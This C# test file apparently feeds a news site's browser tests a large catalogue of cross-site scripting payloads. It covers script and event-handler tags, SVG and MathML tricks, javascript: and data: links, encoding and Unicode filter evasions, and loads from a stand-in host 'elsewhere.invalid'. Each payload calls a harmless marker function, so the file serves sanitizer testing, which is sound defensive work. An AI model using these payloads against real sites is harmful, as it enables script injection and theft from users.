using System.Globalization;

namespace WorthyNews.Tests.Browser;

/// <summary>What somebody might type so that a script of his runs on our pages.</summary>
/// <param name="Number">Its place in the list, counted from 1; what it would run says this number.</param>
/// <param name="Text">As it is typed.</param>
public sealed record HostilePayload(int Number, string Text)
{
    /// <summary>A word in it that must be seen wherever it is shown: <c>n17n</c>.</summary>
    public string Mark => string.Create(CultureInfo.InvariantCulture, $"n{Number}n");
}

/// <summary>The list. <c>§</c> stands for the call that must not happen, <c>¤</c> for <see cref="HostilePayload.Mark"/>, which otherwise comes last.</summary>
public static class HostilePayloads
{
    /// <summary>Where a payload sends whatever it can send. Nothing of ours asks this host for anything.</summary>
    public const string Elsewhere = "elsewhere.invalid";

    /// <summary>For the text of a dispatch, which is read as Markdown.</summary>
    public static IReadOnlyList<HostilePayload> Bodies { get; } = Number(1,
    [
        // Elements that run by themselves.
        "<script>§</script>", "<SCRIPT>§</SCRIPT>", "<script >§</script >", "<script\n>§</script\n> ¤", "<script/x>§</script>", "<script src=//elsewhere.invalid/¤.js></script>",
        "<script type=module>§</script>", "<script\t>§</script>", "<scr<script>ipt>§</scr</script>ipt>", "</script><script>§</script>", "<script>/*\n*/§</script> ¤", "<script async src=data:,§></script>",
        "<svg onload=§>", "<svg/onload=§>", "<svg\fonload=§>", "<SVG ONLOAD=§>", "<svg><script>§</script></svg>", "<svg><script href=data:,§ /></svg>", "<svg><a xlink:href=javascript:§><text y=9>¤</text></a></svg>",
        "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=§>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload='§'/>#x\">", "<svg><foreignObject><iframe srcdoc='<script>§</script>'>", "<svg><style><img src=x onerror=§></style>",
        "<math><a xlink:href=javascript:§>¤</a></math>", "<math href=javascript:§>¤</math>", "<math><mtext><table><mglyph><style><img src onerror=§>", "<math><annotation-xml encoding=text/html><script>§</script>", "<math><mi//xlink:href=\"data:x,<script>§</script>\">",
        "<img src=x onerror=§>", "<img src=x onerror=\"§\">", "<img/src=x/onerror=§>", "<img src='x'onerror='§'>", "<IMG SRC=x ONERROR=§>", "<img src=//elsewhere.invalid/¤.png>", "<img srcset=//elsewhere.invalid/¤.png>", "<img src=x onerror\n=\n§> ¤", "<image href=x onerror=§>", "<img \"\"\"><script>§</script>\">", "<img src=`x`onerror=§>", "<img lowsrc=javascript:§ dynsrc=javascript:§>",
        "<video src=x onerror=§></video>", "<video><source onerror=§></video>", "<video poster=//elsewhere.invalid/¤></video>", "<audio src=//elsewhere.invalid/¤ autoplay></audio>", "<audio onloadstart=§ src=x>",
        "<body onload=§>", "<body onpageshow=§>", "<body background=//elsewhere.invalid/¤>", "<frameset onload=§>", "<details open ontoggle=§>", "<input autofocus onfocus=§>", "<select autofocus onfocus=§>", "<textarea autofocus onfocus=§>", "<marquee onstart=§>¤</marquee>", "<p style=animation-name:x onanimationstart=§>", "<a id=x tabindex=1 onfocusin=§>¤</a>", "<dialog open onclose=§>¤</dialog>", "<button popovertarget=x>¤</button><p popover id=x onbeforetoggle=§>", "<p contenteditable onbeforeinput=§>", "<xss onpointerrawupdate=§ style=display:block>¤",
        "<iframe src=javascript:§></iframe>", "<iframe srcdoc=\"<script>§</script>\"></iframe>", "<iframe srcdoc=&lt;script&gt;parent.§&lt;/script&gt;></iframe>", "<iframe src=//elsewhere.invalid/¤></iframe>", "<iframe onload=§></iframe>", "<object data=javascript:§></object>", "<object data=//elsewhere.invalid/¤></object>", "<embed src=javascript:§>", "<embed src=//elsewhere.invalid/¤>", "<applet code=x archive=//elsewhere.invalid/¤>", "<portal src=//elsewhere.invalid/¤>", "<fencedframe src=//elsewhere.invalid/¤>",
        "<base href=//elsewhere.invalid/¤/>", "<meta http-equiv=refresh content=\"0;url=//elsewhere.invalid/¤\">", "<meta http-equiv=refresh content=0;javascript:§>", "<meta http-equiv=content-security-policy content=\"script-src *\">", "<link rel=stylesheet href=//elsewhere.invalid/¤.css>", "<link rel=preload as=script href=//elsewhere.invalid/¤>", "<link rel=prefetch href=//elsewhere.invalid/¤>", "<link rel=import href=data:text/html,<script>§</script>>",
        "<style>@import '//elsewhere.invalid/¤.css';</style>", "<style>body{background:url(//elsewhere.invalid/¤)}</style>", "<p style=\"background:url(//elsewhere.invalid/¤)\">", "<p style=\"width:expression(§)\">", "<style><!--</style><script>§//--></script>", "<style></style\n><script>§</script> ¤",
        "<form action=//elsewhere.invalid/¤><button autofocus>¤</button></form>", "<form id=dispatch><input name=action>¤", "<form><button formaction=javascript:§>¤</button></form>", "<input type=image src=//elsewhere.invalid/¤ formaction=javascript:§>", "<button form=dispatch formaction=//elsewhere.invalid/¤>¤</button>", "<isindex action=javascript:§ type=submit>",
        "<template><script>§</script></template>", "<template shadowrootmode=open><script>§</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=§>\">", "<noembed><p title=\"</noembed><script>§</script>\">", "<title><p title=\"</title><script>§</script>\">", "<textarea><p title=\"</textarea><script>§</script>\">", "<xmp><p title=\"</xmp><script>§</script>\">", "<plaintext><script>§</script>",
        // Comments and what looks like the end of one.
        "<!--<script>§</script>-->", "<!--><script>§</script>-->", "<!---><script>§</script>-->", "<!-- --!><script>§</script>-->", "<![CDATA[<script>§</script>]]>", "<?xml version='1.0'?><script>§</script>", "<!doctype html [<!ENTITY x '§'>]>&x;", "<![if !IE]><script>§</script><![endif]>", "]]><script>§</script>", "--><script>§</script><!--",
        // Out of the place where it stands.
        "</p></article></main><script>§</script>", "</textarea><script>§</script>", "</title></head><body onload=§>", "\"><script>§</script>", "'><script>§</script>", "`><script>§</script>", "</iframe><script>§</script>", "</script><!--<script>§</script>", "</del></ins><img src=x onerror=§>", "[taken out:] </span><script>§</script>", "# \"onmouseover=§ ¤", "## </h2><script>§</script>", "> <script>§</script>", "- <script>§</script>", "1. <img src=x onerror=§>", "***<script>§</script>***", "**\"><script>§</script>**",
        // Written so that a filter might not see it.
        "&lt;script&gt;§&lt;/script&gt;", "&#60;script&#62;§&#60;/script&#62;", "&#x3C;script&#x3E;§&#x3C;/script&#x3E;", "&#0000060script&#0000062§", "&LT;script&GT;§", "&amp;lt;script&amp;gt;§", "%3Cscript%3E§%3C/script%3E", "\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3cscript\\x3e§", "\u0001<script\u0001>§</script>", "<scr\u0001ipt>§</scr\u0001ipt>", "<\u0001script>§</script>", "<script\u2028>§</script>", "<img\u00A0src=x\u00A0onerror=§>", "<img\u000Bsrc=x\u000Bonerror=§>", "\u202E<script>§</script>\u202C", "\u2066<img src=x onerror=§>", "\uFEFF<script>§</script>", "<\u200Bscript>§</script>", "\uFF1Cscript\uFF1E§\uFF1C/script\uFF1E", "\u02BAonload=§ \u02BA", "\u00ADonerror=§", "<sc\u00ADript>§</sc\u00ADript>", "{{constructor.constructor('§')()}}", "${§}", "<%= § %>", "@(§) @{ § }", "#{§}", "{onclick=§}\n¤", "¤ {: onclick=§ }", "```html\n<script>§</script>\n``` ¤", "    <script>§</script>", "`<script>§</script>`", "~~~\n<svg onload=§>\n~~~ ¤",
        // Links that are no links.
        "[¤](javascript:§)", "[¤](JavaScript:§)", "[¤](java\tscript:§)", "[¤](java&Tab;script:§)", "[¤](java&NewLine;script:§)", "[¤](java&#10;script:§)", "[¤](javascript&colon;§)", "[¤](javascript&#58;§)", "[¤](javascript&#x3a;§)", "[¤](&#106;avascript:§)", "[¤](&#x6A&#x61vascript:§)", "[¤](<javascript:§>)", "[¤](<java script:§>)", "[¤]( javascript:§)", "[¤](\u0001javascript:§)", "[¤](&#1;javascript:§)", "[¤](\u00A0javascript:§)", "[¤](\uFEFFjavascript:§)", "[¤](\u202Ejavascript:§)", "[¤](java\\script:§)", "[¤](javascript\\:§)", "[¤](jav%61script:§)", "[¤](javascript://%0a§)", "[¤](javascript:/**/§)", "[¤](vbscript:§)", "[¤](livescript:§)", "[¤](data:text/html,<script>§</script>)", "[¤](data:text/html;base64,PHNjcmlwdD4=)", "[¤](DATA:image/svg+xml,<svg/onload=§>)", "[¤](blob:https://elsewhere.invalid/x)", "[¤](filesystem:http://x/§)", "[¤](view-source:javascript:§)", "[¤](feed:javascript:§)", "[¤](jar:javascript:§!/)", "[¤](file:///etc/passwd)", "[¤](intent://x#Intent;S.x=§;end)", "[¤](about:blank)",
        "[¤](//elsewhere.invalid/x)", "[¤](/\\elsewhere.invalid/x)", "[¤](\\\\elsewhere.invalid/x)", "[¤](/\t/elsewhere.invalid)", "[¤](https:/\\elsewhere.invalid)", "[¤](https:elsewhere.invalid)", "[¤](https://good.example@elsewhere.invalid/)", "[¤](mailto:a@b.example?body=%0d%0aBcc:x@y.example)", "[¤](?handler=Drop)", "[¤](#\"onclick=§)", "[¤](../../desk/sign-out)",
        "[¤](https://a.example/\"onmouseover=§)", "[¤](https://a.example/'onclick='§')", "[¤](<https://a.example/\" onclick=\"§>)", "[¤](https://a.example/ \"t\\\" onclick=§ x=\\\"\")", "[¤](https://a.example/ '\" onfocus=§ autofocus x=\"')", "[¤](https://a.example/ (\"><script>§</script>))", "[¤](https://a.example/%22%3E%3Cscript%3E§)", "[¤](https://a.example/&quot;onclick=§)", "[¤](/x\"onclick=§)", "[¤\" onclick=\"§](/x)", "[<script>§</script> ¤](/x)", "[<img src=x onerror=§> ¤](https://a.example/)", "[¤ [¤](javascript:§)](/x)", "[¤ <javascript:§>](/x)", "[[¤](/a)](javascript:§)", "[¤](/a)(javascript:§)", "[¤]((javascript:§))",
        "<javascript:§> ¤", "<JAVASCRIPT:§> ¤", "<data:text/html,§> ¤", "<vbscript:§> ¤", "<https://a.example/\"onclick=§> ¤", "<x@y.example?subject=\"onclick=§> ¤", "javascript:§ ¤",
        "[¤][a1]\n\n[a1]: javascript:§", "[¤]\n\n[¤]: JAVASCRIPT:§", "[¤][a2]\n\n[a2]: <data:text/html,§> \"x\"", "[¤][a3]\n\n[a3]: /x '\" onclick=§'", "[¤][a4]\n\n[a4]: https://a.example/ \"><script>§</script>\"", "[¤][a5]\n\n[a5]: java\n  script:§", "[a6]: javascript:§ '¤'\n\n[¤][a6]", "[¤][A7]\n\n[a7]: &#106;avascript:§",
        "![¤](javascript:§)", "![¤\" onerror=\"§](/x.png)", "![¤](//elsewhere.invalid/x.png)", "![¤](/x.png \"\\\" onload=§\")", "[![¤](/x.png)](javascript:§)", "![¤][b1]\n\n[b1]: x\"onerror=§", "![<img src=x onerror=§> ¤](/x)", "!¤[x](javascript:§)",
    ]);

    /// <summary>For what is one line: a headline, a name, a note. Short, for several stand in one headline.</summary>
    public static IReadOnlyList<HostilePayload> Lines { get; } = Number(1001,
    [
        "<script>§</script>", "</title><script>§</script>", "</script><script>§//", "<!--<script>§", "--><svg onload=§>", "]]><img src=x onerror=§>", "\"><svg onload=§>", "'><svg onload=§>", "\"onfocus=§ autofocus x=\"", "'onfocus=§ autofocus x='", "` onclick=§ `",
        "</textarea><script>§</script>", "</option></select><svg onload=§>", "</datalist><svg onload=§>", "</h1><script>§</script>", "</a><a href=javascript:§>¤</a>", "</bdi><svg onload=§>", "</time><svg onload=§>", "</iframe><script>§</script>",
        "<img src=x onerror=§>", "<img src=//elsewhere.invalid/¤>", "<iframe srcdoc='<script>§</script>'>", "<base href=//elsewhere.invalid/>", "<meta http-equiv=refresh content=0;//¤>", "<link rel=stylesheet href=//¤>", "<style>@import'//¤'</style>", "<body onload=§>", "<input autofocus onfocus=§>", "<details open ontoggle=§>", "<math><a xlink:href=javascript:§>¤",
        "<template><script>§</script></template>", "<noscript><p title=\"</noscript><svg onload=§>\">", "<plaintext>¤", "&lt;script&gt;§&lt;/script&gt;", "&#60;svg onload=§&#62;", "&quot;onclick=§ &quot;", "\\\"}</script><script>§</script>", "\\u003c/script\\u003e\\u003cscript\\u003e§", "\";§;\"", "';§;'", "\\';§;//", "${§}", "{{§}}", "@(§)", "<%=§%>",
        "javascript:§", "JaVaScRiPt:§", "data:text/html,<script>§</script>", "[¤](javascript:§)", "![¤](x\"onerror=§)", "<javascript:§> ¤",
        "<scr\u0001ipt>§</script>", "<script\u2028>§</script>", "\u2029<svg onload=§>", "<svg\u000Bonload=§>", "\u202E<svg onload=§>", "\u2067\"><svg onload=§>", "\uFEFF<script>§</script>", "<\u200Bsvg onload=§>", "\uFF1Csvg onload=§\uFF1E",
        "..//elsewhere.invalid ¤", "?handler=Drop&¤", "#\"onclick=§", "%22%3E%3Csvg%20onload=§%3E", "0;url=javascript:§", "§", "x\"</x><x onclick=§>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">§",
    ]);

    private static HostilePayload[] Number(int first, IReadOnlyList<string> texts) => [.. texts.Select((text, at) =>
    {
        var payload = new HostilePayload(first + at, text);
        if (!text.Contains('¤', StringComparison.Ordinal)) text += " ¤";
        return payload with { Text = text.Replace("¤", payload.Mark, StringComparison.Ordinal).Replace("§", string.Create(CultureInfo.InvariantCulture, $"__ran({payload.Number})"), StringComparison.Ordinal) };
    })];
}
